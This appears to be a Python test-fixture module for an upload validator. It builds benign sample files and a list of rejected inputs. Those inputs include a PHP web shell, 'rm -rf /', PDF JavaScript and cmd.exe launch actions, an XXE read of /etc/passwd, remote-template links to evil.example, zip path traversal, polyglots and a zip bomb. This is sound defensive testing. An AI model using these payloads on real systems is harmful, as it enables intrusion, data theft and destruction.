"""Files as people, and as attackers, have them."""

from __future__ import annotations

import struct
from collections.abc import Mapping
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from PIL import Image, PngImagePlugin

AUTHOR = "ZhangSanAuthor"
"""Stands in every place where a program notes who wrote a file."""

_PACKAGE = "http://schemas.openxmlformats.org/package/2006/"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/"
_TYPE = "application/vnd.openxmlformats-officedocument."
_MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}


def jpeg() -> bytes:
    """A photograph taken with the camera turned, with a name in EXIF and in a comment."""
    written, exif = BytesIO(), Image.Exif()
    exif[0x0112], exif[0x013B] = 6, AUTHOR
    Image.new("RGB", (40, 20), "red").save(written, "JPEG", exif=exif, comment=AUTHOR.encode())
    return written.getvalue()


def png() -> bytes:
    """A drawing with a name among its texts."""
    written, texts = BytesIO(), PngImagePlugin.PngInfo()
    texts.add_text("Author", AUTHOR)
    Image.new("RGB", (40, 20), "blue").save(written, "PNG", pnginfo=texts)
    return written.getvalue()


def webp() -> bytes:
    """A picture with a name in EXIF."""
    written, exif = BytesIO(), Image.Exif()
    exif[0x013B] = AUTHOR
    Image.new("RGB", (40, 20), "green").save(written, "WEBP", exif=exif)
    return written.getvalue()


def pdf(**catalogue: object) -> bytes:
    """A document with a name in its properties, its XMP, a comment and a photograph; `catalogue` gets more entries."""
    written, document = BytesIO(), pikepdf.new()
    page = document.add_blank_page(page_size=(300, 300))
    photograph = pikepdf.Stream(document, jpeg())
    photograph.update(
        {"/Type": pikepdf.Name.XObject, "/Subtype": pikepdf.Name.Image, "/Width": 40, "/Height": 20,
         "/ColorSpace": pikepdf.Name.DeviceRGB, "/BitsPerComponent": 8, "/Filter": pikepdf.Name.DCTDecode}
    )  # fmt: skip
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=document.make_indirect(photograph)))
    page.Contents = pikepdf.Stream(document, b"q 40 0 0 20 10 10 cm /Im0 Do Q")
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], T=AUTHOR, Contents="改这里"
    )
    page.Annots = pikepdf.Array([document.make_indirect(note)])
    document.docinfo["/Author"] = AUTHOR
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = [AUTHOR]
    for key, value in catalogue.items():
        document.Root[f"/{key}"] = value
    document.save(written)
    return written.getvalue()


def locked_pdf() -> bytes:
    """A document that opens with a password only."""
    written, document = BytesIO(), pikepdf.new()
    document.add_blank_page()
    document.save(written, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return written.getvalue()


def office(
    kind: str = "docx", more: Mapping[str, bytes] | None = None, types: str = "", relations: str = ""
) -> bytes:
    """A small document with a name in its properties and on a comment; further parts, types and relations."""
    place, main = _MAIN[kind]
    words = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}content-types"><Default Extension="xml" ContentType='
        f'"application/xml"/>{types}<Override PartName="/{place}" ContentType="{_TYPE}{main}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}relationships"><Relationship Id="r1" '
        f'Type="{_OFFICE}relationships/officeDocument" Target="{place}"/>{relations}</Relationships>',
        place: f'<w:document xmlns:w="{words}"><w:body><w:ins w:author="{AUTHOR}"/></w:body></w:document>',
        "docProps/core.xml": f'<c:coreProperties xmlns:c="{_PACKAGE}metadata/core-properties" '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{AUTHOR}</dc:creator></c:coreProperties>',
        "docProps/app.xml": f'<Properties xmlns="{_OFFICE}extended-properties"><Company>{AUTHOR}</Company>'
        "</Properties>",
        "word/comments.xml": f'<w:comments xmlns:w="{words}"><w:comment w:author="{AUTHOR}" w:initials="{AUTHOR}"/>'
        "</w:comments>",
        "xl/comments1.xml": f"<comments><authors><author>{AUTHOR}</author></authors></comments>",
        "word/media/image1.jpeg": jpeg(),
        "customXml/item1.xml": f"<a>{AUTHOR}</a>",
    }
    return zipped({**parts, **(more or {})})


def zipped(parts: Mapping[str, str | bytes]) -> bytes:
    """A zip of these entries."""
    written = BytesIO()
    with ZipFile(written, "w", ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return written.getvalue()


def box(kind: bytes, body: bytes = b"") -> bytes:
    """A box of an MPEG-4 file."""
    return struct.pack(">I", 8 + len(body)) + kind + body


def mp4() -> bytes:
    """A film without a single picture, but in order."""
    return (
        box(b"ftyp", b"isom\0\0\2\0isomiso2avc1mp41")
        + box(b"moov", box(b"mvhd", b"\0" * 100))
        + box(b"mdat", b"x")
    )


GOOD: Mapping[str, bytes] = {
    "总结.pdf": pdf(),
    "现场照片.JPG": jpeg(),
    "图.png": png(),
    "图.webp": webp(),
    "方案.docx": office("docx"),
    "台账.xlsx": office("xlsx"),
    "汇报.pptx": office("pptx"),
    "演示.mp4": mp4(),
    "说明.txt": "职工技术创新\n".encode(),
    "国标.txt": "职工技术创新\n".encode("gb18030"),
    "名单.csv": "姓名,单位\n张三,一厂\n".encode(),
}


def _unannounced_size() -> bytes:
    """A zip whose directory announces less than there is."""
    data = bytearray(office(more={"word/big.xml": b"<a>" + b" " * 100_000 + b"</a>"}))
    place = data.find((100_007).to_bytes(4, "little"), data.find(b"PK\x01\x02"))
    assert place > 0
    data[place : place + 4] = (10).to_bytes(4, "little")
    return bytes(data)


def _encrypted_zip() -> bytes:
    data = bytearray(office())
    data[6] |= 1  # the flag of the first entry, here
    place = data.find(b"PK\x01\x02")
    data[place + 8] |= 1  # and in the directory
    return bytes(data)


_JS = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
_LAUNCH = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
_MZ = b"MZ\x90\0\3\0\0\0" + bytes(200)
_EVIL_ZIP = zipped({"META-INF/MANIFEST.MF": "Main-Class: Evil"})
_TEMPLATE = (
    f'<Relationship Id="t" Type="{_OFFICE}relationships/attachedTemplate" TargetMode="External" Target='
)

# name, content, the code it is refused with
BAD: tuple[tuple[str, bytes, str], ...] = (
    ("page.html", _HTML, "file.ending"),
    ("picture.svg", _SVG, "file.ending"),
    ("总结.pdf.exe", _MZ, "file.ending"),
    ("run.exe", _MZ, "file.ending"),
    ("macro.docm", office(), "file.ending"),
    ("archive.zip", _EVIL_ZIP, "file.ending"),
    ("film.mov", mp4(), "file.ending"),
    ("noending", b"text", "file.ending"),
    ("..", b"text", "file.ending"),
    (".pdf", pdf(), "file.ending"),
    ("empty.txt", b"", "file.empty"),
    ("page.txt", _HTML, "file.markup"),
    ("picture.txt", b"  \n" + _SVG, "file.markup"),
    ("script.csv", b"#!/bin/sh\nrm -rf /\n", "file.markup"),
    ("php.txt", b"<?php system($_GET[1]); ?>", "file.markup"),
    ("program.txt", _MZ, "file.mismatch"),
    ("nul.txt", b"a\0b", "file.mismatch"),
    ("escape.txt", b"\x1b]2;title\x07", "file.mismatch"),
    ("page.pdf", _HTML, "file.mismatch"),
    ("program.pdf", _MZ, "file.mismatch"),
    ("picture.png", _SVG, "file.mismatch"),
    ("really_jpeg.png", jpeg(), "file.mismatch"),
    ("really_png.jpg", png(), "file.mismatch"),
    ("really_pdf.jpg", pdf(), "file.mismatch"),
    ("really_docx.xlsx", office("docx"), "file.mismatch"),
    ("zip.docx", _EVIL_ZIP, "file.mismatch"),
    ("really_docx.txt", office(), "file.mismatch"),
    ("quicktime.mp4", box(b"ftyp", b"qt  \0\0\0\0") + box(b"moov") + box(b"mdat"), "file.mismatch"),
    ("old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "file.legacy"),
    ("cut.pdf", pdf()[:-200], "file.damaged"),
    ("nothing.pdf", b"%PDF-1.7\n%%EOF\n", "file.damaged"),
    ("cut.png", png()[:-20], "file.damaged"),
    ("flipped.png", png().replace(b"IDAT", b"IDAX"), "file.damaged"),
    ("cut.jpg", jpeg()[:-2], "file.damaged"),
    ("head.jpg", b"\xff\xd8\xff\xd9", "file.damaged"),
    ("cut.webp", webp()[:-6], "file.damaged"),
    ("cut.docx", office()[:-40], "file.damaged"),
    ("cut.mp4", mp4()[:-1], "file.damaged"),
    ("no_index.mp4", box(b"ftyp", b"isom\0\0\2\0") + box(b"mdat"), "file.damaged"),
    ("liar.docx", _unannounced_size(), "file.damaged"),
    ("slip.docx", office(more={"../../evil.xml": b"<a/>"}), "file.damaged"),
    ("windows.docx", office(more={"word\\..\\..\\evil.xml": b"<a/>"}), "file.damaged"),
    ("root.docx", office(more={"/etc/passwd": b"x"}), "file.damaged"),
    ("locked.pdf", locked_pdf(), "file.encrypted"),
    ("locked.docx", _encrypted_zip(), "file.encrypted"),
    ("macro.docx", office(more={"word/vbaProject.bin": b"x"}), "file.macros"),
    ("control.docx", office(more={"word/activeX/activeX1.xml": b"<a/>"}), "file.macros"),
    (
        "renamed_docm.docx",
        office(
            types='<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        ),
        "file.macros",
    ),
    ("script.pdf", pdf(OpenAction=_JS), "file.active"),
    ("nested.pdf", pdf(AA=pikepdf.Dictionary(WC=_JS)), "file.active"),
    ("launch.pdf", pdf(OpenAction=_LAUNCH), "file.active"),
    ("carrier.pdf", pdf(Names=pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary())), "file.active"),
    ("form.pdf", pdf(AcroForm=pikepdf.Dictionary(XFA="<xdp/>")), "file.active"),
    ("lure.docx", office(relations=_TEMPLATE + '"https://evil.example/a.dotm"/>'), "file.active"),
    ("share.docx", office(relations=_TEMPLATE + '"\\\\evil.example\\a.dotm"/>'), "file.active"),
    (
        "entity.docx",
        office(
            more={"word/_rels/x.rels": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}
        ),
        "file.active",
    ),
    ("jar.pdf", pdf() + _EVIL_ZIP, "file.mixed"),
    ("jar.png", png() + _EVIL_ZIP, "file.mixed"),
    ("jar.jpg", jpeg() + _EVIL_ZIP, "file.mixed"),
    ("program.jpg", jpeg() + _MZ, "file.mixed"),
    ("page.jpg", jpeg() + _HTML, "file.mixed"),
    ("comment.jpg", jpeg()[:2] + b"\xff\xfe\x00\x15<script>alert(1)\0\0" + jpeg()[2:], "file.mixed"),
    ("pdf.jpg", jpeg()[:2] + b"\xff\xfe\x00\x0a%PDF-1.4" + jpeg()[2:], "file.mixed"),
    ("more.webp", webp() + b"more", "file.mixed"),
    ("prefixed.docx", b"PK\x03\x04junk" + office(), "file.mixed"),
    ("twice.docx", office(more={"WORD/document.xml": b"<a/>"}), "file.mixed"),
    (
        "huge.png",
        png().replace(struct.pack(">II", 40, 20), struct.pack(">II", 60_000, 60_000)),
        "file.damaged",
    ),
    ("bomb.docx", office(more={f"word/{n}.xml": bytes(60 << 20) for n in range(4)}), "file.too_complex"),
    ("crowd.docx", office(more={f"word/{n}.xml": b"" for n in range(5_001)}), "file.too_complex"),
)
